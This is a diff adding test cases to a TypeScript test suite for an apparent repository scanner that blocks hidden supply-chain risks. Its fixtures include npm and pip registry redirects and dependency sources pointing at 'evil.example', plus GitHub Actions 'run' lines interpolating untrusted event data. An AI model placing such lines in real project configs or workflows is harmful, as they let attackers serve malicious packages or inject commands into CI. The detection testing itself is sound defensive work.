@@ -189,6 +189,47 @@ describe('what hides from a reader by its form is found, and blocks', () => {
       'instructions/remote-execution',
     ],
     ['a hook', { path: '.husky/_/pre-commit', text: run }, 'instructions/remote-execution'],
+    ...['"registry"="https://evil.example/"', '@a.b:registry=https://evil.example/'].map(
+      (text): [string, { path: string; text: string }, string] => [
+        `another registry as ${text}`,
+        { path: '.npmrc', text },
+        'dependencies/registry-changed',
+      ],
+    ),
+    ...['-ihttps://evil.example/simple', '--extra-index https://evil.example', '-f https://evil.example'].map(
+      (text): [string, { path: string; text: string }, string] => [
+        `another index as ${text}`,
+        { path: 'requirements.txt', text },
+        'dependencies/registry-changed',
+      ],
+    ),
+    ...['x @ https://evil.example/x.whl', 'git+https://evil.example/x', '-e git+ssh://evil.example/x'].map(
+      (text): [string, { path: string; text: string }, string] => [
+        `the requirement ${text}`,
+        { path: 'requirements.txt', text },
+        'dependencies/dependency-source',
+      ],
+    ),
+    [
+      'an override by its place',
+      { path: 'package.json', text: '{"overrides":{"a":{"b":"https://evil.example/x.tgz"}}}' },
+      'dependencies/dependency-source',
+    ],
+    [
+      'a crate from git',
+      { path: 'Cargo.toml', text: 'x = { git = "https://evil.example/x" }' },
+      'dependencies/dependency-source',
+    ],
+    ...[
+      'GitHub.Event.issue.Title',
+      "github.event['issue'].title",
+      'toJSON(github.event)',
+      "format('{0}', github.event.issue.title)",
+    ].map((text): [string, { path: string; text: string }, string] => [
+      `the expression ${text}`,
+      { path: '.github/workflows/a.yml', text: `      - run: echo "\${{ ${text} }}"` },
+      'workflows/template-injection',
+    ]),
     [
       'a short private key',
       { path: 'k.pem', text: pem(`${ed25519}\n`).replaceAll('RSA ', '') },
